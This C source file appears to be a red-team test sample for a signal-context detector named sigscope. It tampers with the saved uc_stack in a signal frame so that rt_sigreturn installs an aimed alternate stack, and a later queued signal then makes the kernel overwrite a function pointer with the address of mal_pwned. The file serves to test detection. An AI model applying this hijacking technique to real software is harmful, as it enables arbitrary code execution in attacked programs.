/* SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause */
/*
 * srop_ucstack_aim (red team round 4, ucstack_write): every register restored as saved, only the
 * frame's uc_stack edited. rt_sigreturn installs it as the thread's altstack, placed so that the
 * next SA_ONSTACK frame the kernel writes puts its siginfo's si_value exactly on a function
 * pointer in the program's data. The program then queues that signal with
 * sigqueue(value = mal_pwned): the kernel itself writes the pointer, and the program's next call
 * through it runs the attacker's code.
 *
 * Why: uc_stack is part of the context rt_sigreturn restores; a rule that compares only the
 * registers lets it through unjudged.
 *
 * Expected from sigscope: tampered_context (high, changed uc_stack) at the first sigreturn.
 */
#include "mal.h"

#define SS_SIZE 16384UL

static unsigned char arena[65536] __attribute__((aligned(64)));
struct obj {
	long pad;
	void (*fn)(void); /* 8 mod 64, where a frame's si_value can land */
};
static unsigned long xsize;

static void benign(void)
{
	mal_say("benign callback");
}

/* SIGUSR1: aims the altstack its sigreturn restores. */
static void aim(int sig, siginfo_t *info, void *ucv)
{
	ucontext_t *uc = ucv;
	struct obj *o = (struct obj *)(arena + 49152);
	unsigned long target, top;

	(void)sig;
	(void)info;
	/* The frame's FP area size as the kernel wrote it (fpx_sw_bytes.xstate_size, fxsave +468+4)
	 */
	xsize = ((unsigned int *)uc->uc_mcontext.fpregs->__glibc_reserved1)[13];
	/* An rt frame below its FP area: si_value at frame + 0x150 (pretcode 8, ucontext 0x148: the
	 * siginfo's sigval at +0x18), the frame 0x1c8 below the FP area, which ends at the top */
	target = (unsigned long)&o->fn + 0x78;
	top = target + xsize;
	uc->uc_stack.ss_sp = (void *)(top - SS_SIZE);
	uc->uc_stack.ss_size = SS_SIZE;
	uc->uc_stack.ss_flags = 0;
}

static void onstack(int sig, siginfo_t *info, void *uc)
{
	(void)sig;
	(void)info;
	(void)uc;
}

int main(void)
{
	struct obj *o = (struct obj *)(arena + 49152);
	union sigval value = {.sival_ptr = (void *)mal_pwned};

	mal_init("srop_ucstack_aim", 10);
	o->fn = benign;
	mal_handle(SIGUSR1, aim, 0);
	mal_handle(SIGUSR2, onstack, SA_ONSTACK);
	mal_raise_here(SIGUSR1); /* its sigreturn installs the aimed "altstack" */
	if (sigqueue(getpid(), SIGUSR2, value))
		mal_die(MAL_EXIT_SETUP, "sigqueue");
	if (xsize == 0)
		mal_say("no FP area size in the frame");
	o->fn();
	mal_say("the callback was not overwritten");
	_exit(MAL_EXIT_NOTHING);
}
